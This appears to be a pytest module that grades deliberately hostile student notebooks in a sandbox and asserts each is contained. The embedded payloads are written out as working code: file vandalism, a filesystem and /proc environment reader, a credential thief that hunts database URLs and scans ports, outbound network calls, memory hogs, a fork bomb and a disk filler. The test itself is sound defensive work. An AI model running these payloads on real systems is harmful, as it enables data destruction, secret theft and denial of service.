"""Submissions that attack the grader, graded in one batch beside correct ones (issue 23).

Each hostile submission is an otherwise blank (or correct) notebook whose first answer cell
does the harm: a vandal that deletes and overwrites what it finds around it, a reader that
looks for other students' work and the hidden tests, a thief after the gradebook's password,
a caller on the network, a memory hog (two: ordinary and shared memory), a fork bomb, a disk
filler, a submission that hides its tracebacks and a first answer that sleeps past its time
limit. They are graded as an instructor grades: ``course grade --workers 2`` on a real
PostgreSQL gradebook whose URL holds a password, then ``course feedback``, then once more
with ``nbgrader autograde`` run by hand from grading/ (a SQLite gradebook).

Every other student's files and scores must stay as they were, each hostile submission must
be flagged or score 0 (a limit it ran into named in its flags), the correct ones keep full
marks, and no output or feedback holds another student's answer, a hidden test or the
gradebook's password.

Hostile code that escaped a broken sandbox would act on this machine, where other work may
run. Each therefore harms only what belongs to this test (its temporary folder and its own
batch's scratch folders) and stops at a size or a count well past the sandbox's limits; the
test fails all the same when any harm, or any of those counts, is reached.

Outside CI the module skips, naming what is missing, without bubblewrap or PostgreSQL;
under CI (``CI=true``) it must run.
"""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT, postgres_server, repository_copy, require_sandbox

from incentives.instructor import backups, flagging, record

pytestmark = pytest.mark.slow

LESSON = "00-start-here"
SLOW_LESSON = "01-two-departments"  # five exercises: the slow first answer loses one of them
BIN = Path(sys.executable).parent
CELL_TIMEOUT = 20  # seconds: ten times what lesson 00's slowest cell takes
FULL = 3.0  # lesson 00's autograded points
HAND_MARK = 1.5  # an instructor's mark for an earlier student's written answer
SLOW_FULL, SLOW_LOST = 15.0, 3.0  # lesson 01's points, and those of its first exercise

# ---------------------------------------------------------------------------------------------
# The hostile answers. MINE (filled in by the test) is what each may harm: the test's own
# folder and the sandbox's; scratch folders of its own batch it finds itself.
# ---------------------------------------------------------------------------------------------

SAFETY_NET = """
import glob, os


def _ancestors():
    pids, pid = set(), os.getpid()
    while pid > 1:
        pids.add(pid)
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


MINE = MINE_FOLDERS + ["/sandbox"]
for _scratch in glob.glob("/dev/shm/course-grade-*") + glob.glob("/tmp/course-grade-*"):
    try:
        with open(os.path.join(_scratch, "grader.pid")) as _pid:
            if int(_pid.read()) in _ancestors():
                MINE.append(_scratch)
    except (OSError, ValueError):
        pass


def may_harm(path):
    real = os.path.realpath(path)
    return any(real == top or real.startswith(top.rstrip("/") + "/") for top in MINE)
"""

VANDAL = (
    SAFETY_NET
    + """
import shutil


def upwards(folder):
    folder = os.path.realpath(folder)
    while True:
        yield folder
        if folder == "/":
            return
        folder = os.path.dirname(folder)


starts = [os.getcwd()]
for link in [f"/proc/{os.getppid()}/cwd", *glob.glob("/proc/[0-9]*/cwd")]:
    try:
        starts.append(os.readlink(link))
    except OSError:
        pass
reached = []
for start in starts:
    for folder in upwards(start):
        if folder not in reached:
            reached.append(folder)
done = {"overwritten": 0, "deleted": 0, "written": 0, "removed": 0}
for top in [f for f in reached if may_harm(f)] + [f for f in MINE if os.path.isdir(f)]:
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if name.endswith(".db"):
                    with open(path, "wb") as db:
                        db.write(b"vandalized")
                    done["overwritten"] += 1
                elif name.endswith(".ipynb") and "submitted" in path.split(os.sep):
                    os.remove(path)
                    done["deleted"] += 1
            except OSError:
                pass
for folder, dirs, _ in os.walk("/"):
    if folder in ("/proc", "/sys", "/usr"):
        dirs[:] = []
        continue
    if may_harm(folder):
        try:
            with open(os.path.join(folder, "vandal-was-here.txt"), "w") as note:
                note.write("a submission wrote this")
            done["written"] += 1
        except OSError:
            pass
for folder in reversed(reached):  # the highest first: the course's root, if it is in reach
    if may_harm(folder):
        shutil.rmtree(folder, ignore_errors=True)
        done["removed"] += 1
print("vandal:", done)
"""
)

READER = """
import glob, os, sys

WANTED = (".ipynb", ".db", ".json", ".html", ".sqlite", ".txt")
SKIP = {"/proc", "/sys", "/usr", sys.prefix, sys.base_prefix}
PLACES = ("solutions", "submitted", "autograded", "feedback", "grading")
shown = 0


def show(path):
    global shown
    try:
        with open(path, "rb") as handle:
            data = handle.read(1_000_000)
    except OSError:
        return
    shown += 1
    print(f"==== {path}")
    print(data.decode("utf-8", "replace").replace("\\0", "\\n")[:20_000])


tops = ["/", "/dev/shm", "/tmp", os.path.expanduser("~"), *glob.glob("/proc/[0-9]*/cwd")]
for top in tops:
    for folder, dirs, files in os.walk(top):
        if folder in SKIP:
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith(WANTED) or any(p in path.split(os.sep) for p in PLACES):
                show(path)
for path in glob.glob("/proc/[0-9]*/environ"):
    show(path)
print("reader: files shown:", shown)
"""

THIEF = """
import glob, os, re, socket

print("my environment:", dict(os.environ))
texts = [repr(dict(os.environ))]
paths = ["/proc/1/environ", f"/proc/{os.getppid()}/environ"]
paths += glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
paths += [os.path.expanduser("~/.pgpass"), "/etc/environment"]
folder = os.path.realpath(f"/proc/{os.getppid()}/cwd")
for start in (os.getcwd(), folder):
    while True:
        paths += [os.path.join(start, n) for n in ("nbgrader_config.py", ".env", ".pgpass")]
        paths.append(os.path.join(start, "grading", "nbgrader_config.py"))
        if start == "/":
            break
        start = os.path.dirname(start)
for path in paths:
    try:
        with open(path, "rb") as handle:
            text = handle.read().decode("utf-8", "replace").replace("\\0", "\\n")
    except OSError:
        continue
    print(f"==== {path}")
    print(text)
    texts.append(text)
joined = "\\n".join(texts)
urls = set(re.findall(r"postgres(?:ql)?(?:\\+psycopg)?://[^\\s'\\"]+", joined))
ports = {5432} | {int(p) for p in re.findall(r"[:=](\\d{4,5})\\b", joined) if 1024 < int(p) < 65536}
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        with open(table) as listing:
            for line in listing.read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A":  # listening
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    except OSError:
        pass
for port in sorted(ports)[:50]:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
        print(f"CONNECTED to 127.0.0.1:{port}")
    except OSError as error:
        print(f"no connection to port {port}: {error}")
import psycopg

tries = sorted(urls)
tries += [f"postgresql://course_test@127.0.0.1:{p}/gradebook" for p in sorted(ports)[:50]]
tries += ["postgresql:///gradebook?host=/tmp", "postgresql:///gradebook?host=/var/run/postgresql"]
for url in tries:
    try:
        with psycopg.connect(url.replace("+psycopg", ""), connect_timeout=2) as db:
            print("QUERY OK:", db.execute("select count(*) from grade").fetchone())
    except Exception as error:  # the message may name the URL: only its kind is shown
        print("no query:", type(error).__name__)
print("thief: urls found:", len(urls), "ports tried:", len(ports))
"""

NETWORK = """
import socket

for host, port in (("127.0.0.1", LISTENING_PORT), ("1.1.1.1", 53), ("93.184.215.14", 80)):
    try:
        socket.create_connection((host, port), timeout=3).close()
        print(f"CONNECTED to {host}:{port}")
    except OSError as error:
        print(f"no connection to {host}:{port}: {error}")
try:
    print("RESOLVED example.org:", socket.getaddrinfo("example.org", 80)[0][4])
except OSError as error:
    print("no name resolution:", error)
"""

HOG = """
hog = []
while len(hog) < 80:  # 8 GB at most
    hog.append(bytearray(100 << 20))
print("HOG GOT", len(hog) * 100, "MB")
"""

SHARED_HOG = """
import mmap

hog = []
while len(hog) < 40:  # 4 GB at most, of shared memory (not the process's data segment)
    chunk = mmap.mmap(-1, 100 << 20)
    for offset in range(0, 100 << 20, 4096):
        chunk[offset] = 1
    hog.append(chunk)
print("HOG GOT", len(hog) * 100, "MB")
"""

FORK_BOMB = """
import os, time

children = 0
while children < 1000:  # a safety net, far past the sandbox's limit
    if os.fork() == 0:
        time.sleep(120)
        os._exit(0)
    children += 1
print("FORKED", children)
"""

DISK_FILLER = """
import os

first = None
for folder in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), "/", "/dev"):
    written = 0
    try:
        with open(os.path.join(folder, "filler.bin"), "wb") as out:
            while written < 512:  # MB: a safety net, twice the sandbox's limit
                out.write(b"x" * (1 << 20))
                out.flush()
                written += 1
        print(f"{folder}: {written} MB, NO LIMIT")
    except OSError as error:
        print(f"{folder}: stopped after {written} MB: {error}")
        first = first or error
if first:
    raise first
"""

HIDER = """
import os, sys

from IPython import get_ipython

shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
shell._showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
sys.stderr = open(os.devnull, "w")


def cost_per_lead(budget_eur, leads):
    return budget_eur * leads  # wrong, and never raises
"""

SLEEPER = "import time\n\ntime.sleep(3600)  # far past the cell's time limit\n\n"

# student -> its first answer cell's code, in the blank lesson 00
HOSTILE = {
    "vandal": VANDAL,
    "reader": READER,
    "thief": THIEF,
    "network": NETWORK,
    "hog": HOG,
    "shared_hog": SHARED_HOG,
    "fork_bomb": FORK_BOMB,
    "disk_filler": DISK_FILLER,
    "hider": HIDER,
}
CORRECT = ("correct_a", "correct_b")
EARLIER = ("earlier_full", "earlier_blank")  # graded before the batch: must stay as they were
BATCH = (*CORRECT, *HOSTILE, "slow")
LIMITS = {
    "hog": flagging.SANDBOX_LIMITS[0][0],
    "shared_hog": flagging.SANDBOX_LIMITS[0][0],
    "disk_filler": flagging.SANDBOX_LIMITS[1][0],
    "fork_bomb": flagging.SANDBOX_LIMITS[2][0],
}


def notebook(kind: str, lesson: str = LESSON):
    return nbformat.read(ROOT / kind / lesson / f"{lesson}.ipynb", as_version=4)


def first_answer(nb):
    return next(
        c
        for c in nb.cells
        if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")
    )


def submit(course: Path, student: str, nb, lesson: str = LESSON) -> None:
    folder = course / "grading" / "submitted" / student / lesson
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{lesson}.ipynb")


def answered(marker: str):
    """The solution, with a line only this student wrote."""
    nb = notebook("solutions")
    first_answer(nb).source += f"\n\n# {marker}: my own words\n"
    return nb


def hidden_lines() -> set[str]:
    """Lines of the hidden tests of the lessons graded here (long enough to be telling)."""
    lines = set()
    for lesson in (LESSON, SLOW_LESSON):
        for cell in notebook("solutions", lesson).cells:
            if "BEGIN HIDDEN TESTS" in cell.source:
                lines |= {s.strip() for s in cell.source.splitlines() if len(s.strip()) >= 25}
    lines -= {line for line in lines if "HIDDEN TESTS" in line}
    assert len(lines) >= 10
    return lines


def hashes(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def dump(url: str) -> dict[str, dict]:
    """Every row of every table of the gradebook, by table and primary key."""
    import sqlalchemy as sa
    from nbgrader.api import Base

    engine = sa.create_engine(url)
    try:
        with engine.connect() as connection:
            return {
                table.name: {
                    tuple(row._mapping[c.name] for c in table.primary_key.columns): tuple(row)
                    for row in connection.execute(sa.select(table))
                }
                for table in Base.metadata.sorted_tables
            }
    finally:
        engine.dispose()


def batch_rows(tables: dict[str, dict]) -> set[tuple]:
    """(table, key) of every row that belongs to a student of the batch."""
    from nbgrader.api import Base

    columns = {t.name: [c.name for c in t.columns] for t in Base.metadata.sorted_tables}

    def value(table, row, name):
        return row[columns[table].index(name)]

    rows = {("student", k) for k in tables["student"] if k[0] in BATCH}
    submissions = {
        k
        for k, row in tables["submitted_assignment"].items()
        if value("submitted_assignment", row, "student_id") in BATCH
    }
    notebooks = {
        k
        for k, row in tables["submitted_notebook"].items()
        if (value("submitted_notebook", row, "assignment_id"),) in submissions
    }
    rows |= {("submitted_assignment", k) for k in submissions}
    rows |= {("submitted_notebook", k) for k in notebooks}
    for table in ("grade", "comment"):
        rows |= {
            (table, k)
            for k, row in tables[table].items()
            if (value(table, row, "notebook_id"),) in notebooks
        }
    return rows


def outputs_text(cell) -> str:
    """A cell's outputs as text (streams, results, errors)."""
    return json.dumps(cell.get("outputs", []), ensure_ascii=False)


def plain_text(page: str) -> str:
    """An HTML page's text: tags removed, entities decoded (so code reads as written)."""
    return html.unescape(re.sub(r"<[^>]+>", "", page))


class Listener:
    """A TCP server on 127.0.0.1 that records every connection made to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.peers: list = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, peer = self.server.accept()
            except OSError:
                return
            self.peers.append(peer)
            connection.close()

    def close(self):
        self.server.close()


def run(command: list, cwd: Path, env: dict, timeout: float = 900) -> str:
    done = subprocess.run(
        [str(c) for c in command],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    assert done.returncode == 0, f"{command[:2]} failed:\n{done.stdout}\n{done.stderr}"
    return done.stdout + done.stderr


# ---------------------------------------------------------------------------------------------
# The batch
# ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Grade the class (``course grade``, then ``course feedback``, then ``nbgrader
    autograde`` by hand), recording what each run left."""
    require_sandbox()
    password = f"pw-{uuid.uuid4().hex}"
    with postgres_server(password=password) as url:
        yield Class(tmp_path_factory.mktemp("hostile"), url, password).grade()


class Class:
    """The course, its students and what became of them."""

    def __init__(self, home: Path, url: str, password: str):
        self.home, self.url, self.password = home, url, password
        self.course = repository_copy(home / "course")
        self.markers = {s: f"ANSWER-OF-{s}-{uuid.uuid4().hex}" for s in (*CORRECT, EARLIER[0])}
        self.env = {k: v for k, v in os.environ.items() if k != "COURSE_GRADEBOOK_URL"}
        # The instructor's environment: the gradebook's URL, and its password for psql.
        self.env |= {"COURSE_GRADEBOOK_URL": url, "PGPASSWORD": password}

    def grade(self) -> Class:
        course = self.course
        # Earlier work, graded and hand-marked before the batch arrives.
        submit(course, EARLIER[0], answered(self.markers[EARLIER[0]]))
        submit(course, EARLIER[1], notebook("lessons", SLOW_LESSON), SLOW_LESSON)
        run(
            [BIN / "course", "grade", "--workers", "2", "--cell-timeout", CELL_TIMEOUT],
            course,
            self.env,
        )
        self.hand_mark()
        # The batch.
        self.listener = Listener()
        with socket.create_connection(("127.0.0.1", self.listener.port)):
            pass  # it listens: a connection from here is recorded
        for _ in range(100):
            if self.listener.peers:
                break
            time.sleep(0.05)
        assert len(self.listener.peers) == 1
        self.listener.peers.clear()
        for student in CORRECT:
            submit(course, student, answered(self.markers[student]))
        mine = repr([str(self.home)])
        for student, code in HOSTILE.items():
            nb = notebook("lessons")
            code = code.replace("MINE_FOLDERS", mine)
            first_answer(nb).source = code.replace("LISTENING_PORT", str(self.listener.port))
            submit(course, student, nb)
        slow = notebook("solutions", SLOW_LESSON)
        first_answer(slow).source = SLEEPER + first_answer(slow).source
        submit(course, "slow", slow, SLOW_LESSON)
        self.before = hashes(course)
        self.tables_before = dump(self.url)
        self.output = run(
            [BIN / "course", "grade", "--workers", "2", "--cell-timeout", CELL_TIMEOUT],
            course,
            self.env,
        )
        self.listener.close()
        self.after = hashes(course)
        self.tables_after = dump(self.url)
        self.state = record.read_state(course)
        run([BIN / "course", "feedback"], course, self.env)
        self.autograded = self.read_autograded()
        self.feedback = {
            p.relative_to(course / "grading" / "feedback").parts[0]: plain_text(p.read_text())
            for p in (course / "grading" / "feedback").rglob("*.html")
        }
        self.by_hand()
        return self

    def hand_mark(self) -> None:
        from nbgrader.api import Gradebook

        with Gradebook(self.url) as gradebook:
            grade = gradebook.find_grade("lose_money_reflection", LESSON, LESSON, EARLIER[0])
            grade.manual_score = HAND_MARK
            comment = gradebook.find_comment("lose_money_reflection", LESSON, LESSON, EARLIER[0])
            comment.manual_comment = "A concrete mechanism; say what the parts campaign cost."
            gradebook.db.commit()

    def read_autograded(self) -> dict[str, list]:
        folder = self.course / "grading" / "autograded"
        return {
            student.name: [nbformat.read(p, as_version=4) for p in sorted(student.rglob("*.ipynb"))]
            for student in sorted(folder.iterdir())
        }

    def by_hand(self) -> None:
        """The same submissions through ``nbgrader autograde`` from grading/, as the README
        offers: a SQLite gradebook (a copy of the class's), the instructor's secrets in
        the environment."""
        course = self.course
        backups.copy_gradebook(self.url, course / "grading" / "gradebook.db")
        env = {k: v for k, v in self.env.items() if k != "COURSE_GRADEBOOK_URL"}
        env |= {"PGPASSWORD": self.password, "DATABASE_URL": self.url}
        self.hand_before = hashes(course)
        self.hand_output = run(
            [BIN / "nbgrader", "autograde", LESSON, "--force", f"--Execute.timeout={CELL_TIMEOUT}"],
            course / "grading",
            env,
        )
        self.hand_after = hashes(course)
        self.hand_autograded = self.read_autograded()


# ---------------------------------------------------------------------------------------------
# course grade
# ---------------------------------------------------------------------------------------------


def result(hostile, student, lesson=LESSON) -> dict:
    return hostile.state[f"{student}/{lesson}"]["result"]


def printed(notebooks) -> str:
    """What the cells of these notebooks printed (their streams, not their tracebacks,
    which quote the code)."""
    return "".join(
        output.get("text", "")
        for nb in notebooks
        for cell in nb.cells
        for output in cell.get("outputs", [])
        if output.get("output_type") == "stream"
    )


def test_the_correct_submissions_keep_full_marks(hostile):
    for student in CORRECT:
        assert result(hostile, student) == {"score": FULL, "max_score": FULL, "flags": []}


@pytest.mark.parametrize("student", sorted(HOSTILE))
def test_each_hostile_submission_scores_zero(hostile, student):
    assert result(hostile, student)["score"] == 0.0


@pytest.mark.parametrize("student", sorted(LIMITS))
def test_a_submission_stopped_by_a_limit_is_flagged_with_that_limit(hostile, student):
    flags = result(hostile, student)["flags"]
    assert f"cell cost_per_lead_answer {LIMITS[student]}" in flags
    said = printed(hostile.autograded[student])
    assert "HOG GOT" not in said and "FORKED" not in said and "NO LIMIT" not in said


def test_the_traceback_hider_is_flagged_for_hooking_into_the_kernel(hostile):
    flags = result(hostile, "hider")["flags"]
    hooked = "changes how later cells run, which may hide a failing test: cell cost_per_lead_answer"
    assert f"{hooked}: shell = get_ipython()" in flags
    assert f"{hooked}: sys.excepthook = lambda *args: None" in flags


def test_the_slow_first_answer_loses_only_that_exercise(hostile):
    slow = result(hostile, "slow", SLOW_LESSON)
    assert slow["score"] == SLOW_FULL - SLOW_LOST and slow["max_score"] == SLOW_FULL
    limit = f"cell close_rate_by_answer ran past its {CELL_TIMEOUT:g} s limit and was stopped"
    assert limit in slow["flags"]


def test_the_summary_says_the_batch_was_sandboxed(hostile):
    assert "each submission's code ran in a sandbox" in hostile.output
    assert "sandboxed, but" not in hostile.output and "NOT SANDBOXED" not in hostile.output


def test_the_gradebook_changed_only_by_the_batchs_grades(hostile):
    before, after = hostile.tables_before, hostile.tables_after
    ours = batch_rows(after)
    assert len(ours) > 50 and not batch_rows(before)
    for table in before:
        for key, row in before[table].items():
            assert after[table].get(key) == row, f"{table} {key} changed"
        for key in set(after[table]) - set(before[table]):
            assert (table, key) in ours, f"{table} {key}: a row not of the batch"
    # The comparison covers the hand-entered mark of an earlier student.
    assert [row for row in before["grade"].values() if HAND_MARK in row]


def test_submitted_work_and_the_course_folder_are_unchanged(hostile):
    before, after = hostile.before, hostile.after
    changed = {p for p in before if after.get(p) != before[p]}
    assert changed == {"grading/graded.json"}
    added = set(after) - set(before)
    made = {p for p in added if Path(p).parts[:2] == ("grading", "autograded")}
    assert added == made and {Path(p).parts[2] for p in made} == set(BATCH)


def test_nothing_a_submission_wrote_is_left_outside_its_sandbox(hostile):
    left = [p for p in hostile.home.rglob("*") if p.name in ("vandal-was-here.txt", "filler.bin")]
    assert left == []
    assert "vandal: {" in printed(hostile.autograded["vandal"])


def test_no_output_or_feedback_holds_another_students_answer(hostile):
    assert set(hostile.feedback) >= set(BATCH)
    for owner, marker in hostile.markers.items():
        for student, notebooks in hostile.autograded.items():
            if student != owner:
                assert all(marker not in json.dumps(nb) for nb in notebooks), (owner, student)
        for student, page in hostile.feedback.items():
            if student != owner:
                assert marker not in page, (owner, student)
        assert marker in hostile.feedback[owner]  # the search finds one where it is


def test_no_output_or_feedback_holds_a_hidden_test(hostile):
    lines = hidden_lines()
    for student, notebooks in hostile.autograded.items():
        for nb in notebooks:
            for cell in nb.cells:
                if "BEGIN HIDDEN TESTS" in cell.source:
                    continue  # the hidden test's own traceback, replaced in the feedback
                said = outputs_text(cell)
                assert not [line for line in lines if line in said], (student, cell.source[:80])
    for student, page in hostile.feedback.items():
        assert not [line for line in lines if line in page], student
    # The search finds them where nbgrader put them back: in the hidden tests' cells.
    source = "".join(c.source for c in hostile.autograded["correct_a"][0].cells)
    assert any(line in source for line in lines)


def test_no_output_holds_the_gradebooks_password_or_url(hostile):
    secrets = (hostile.password, hostile.url, hostile.url.split("@")[1])
    everything = "\n".join(json.dumps(nbs) for nbs in hostile.autograded.values())
    everything += "\n".join(hostile.feedback.values()) + hostile.output
    assert not [s for s in secrets if s in everything]
    thief = printed(hostile.autograded["thief"])
    assert "thief: urls found: 0" in thief
    assert "QUERY OK" not in thief and "CONNECTED" not in thief


def test_the_network_caller_reached_nothing(hostile):
    said = printed(hostile.autograded["network"])
    assert "CONNECTED" not in said and "RESOLVED" not in said
    assert said.count("no connection to") == 3
    assert hostile.listener.peers == []


# ---------------------------------------------------------------------------------------------
# nbgrader autograde, run by hand from grading/
# ---------------------------------------------------------------------------------------------


def test_nbgrader_autograde_by_hand_keeps_the_course_and_the_others_work(hostile):
    before, after = hostile.hand_before, hostile.hand_after
    changed = {p for p in before if after.get(p) != before[p]}
    kept = ("grading/gradebook.db",)
    assert {
        p for p in changed if p not in kept and not p.startswith("grading/autograded/")
    } == set()
    added = {p for p in set(after) - set(before) if not p.startswith("grading/autograded/")}
    assert added <= {"grading/.nbgrader.log"}
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{hostile.course / 'grading' / 'gradebook.db'}") as gradebook:
        for student in CORRECT:
            assert gradebook.find_submission(LESSON, student).score == FULL
        assert gradebook.find_submission(LESSON, EARLIER[0]).score == FULL + HAND_MARK
        for student in HOSTILE:
            assert gradebook.find_submission(LESSON, student).score == 0.0


def test_nbgrader_autograde_by_hand_leaks_no_answer_and_no_secret(hostile):
    secrets = (hostile.password, hostile.url, hostile.url.split("@")[1])
    for student, notebooks in hostile.hand_autograded.items():
        text = json.dumps(notebooks)
        assert not [s for s in secrets if s in text], student
        for owner, marker in hostile.markers.items():
            assert owner == student or marker not in text, (owner, student)
    thief = printed(hostile.hand_autograded["thief"])
    assert "thief: urls found: 0" in thief and "CONNECTED" not in thief
